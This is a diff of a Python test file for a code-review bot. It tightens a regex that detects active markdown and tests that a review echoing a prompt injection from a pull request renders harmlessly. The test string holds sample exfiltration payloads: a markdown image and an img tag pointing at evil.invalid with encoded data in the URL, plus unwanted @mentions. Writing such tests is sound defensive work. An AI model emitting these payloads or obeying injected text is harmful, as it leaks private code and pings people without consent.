@@ -189,12 +189,13 @@ def active(markdown: str) -> list[str]:
     every reader's browser, its address able to carry the private code out), raw HTML, a mention."""
     text = re.sub(r"(`+).*?\1", "", outside_code(markdown))  # code spans
     text = re.sub(r"<!-- dispatchbot:[\w:-]+ -->", "", text)  # the bot's own marker
-    return re.findall(r"(?<!\\)!\[|<[A-Za-z/!]|(?<![\w`\\])@[A-Za-z0-9]", text)
+    return re.findall(r"(?<!\\)!\[|(?<!\\)<[A-Za-z/!]|(?<![\w`\\])@[A-Za-z0-9]", text)
 
 
 async def test_a_hostile_review_shows_no_image_html_or_mention(world, engine_bot):
-    """A reviewer repeats what a file of the pull tells it (a prompt injection): its review text is
-    posted as markdown, readable, with nothing in it that fetches, renders HTML or pings anyone."""
+    """A reviewer repeats what a file of the pull tells it (a prompt injection): its review is shown
+    as written (in a code fence; an inline remark as plain text), with nothing in it that fetches,
+    renders HTML or pings anyone."""
     forge, repo, bob = world["forge"], world["repo"], world["bob"]
     said = ("Looks fine. ![x](http://evil.invalid/leak.png?d=c2VjcmV0) <img src=http://evil.invalid/p.png> cc @rita\n"
             "src/app.py:1: see ![y][r] and <details><summary>@rita</summary>\n"
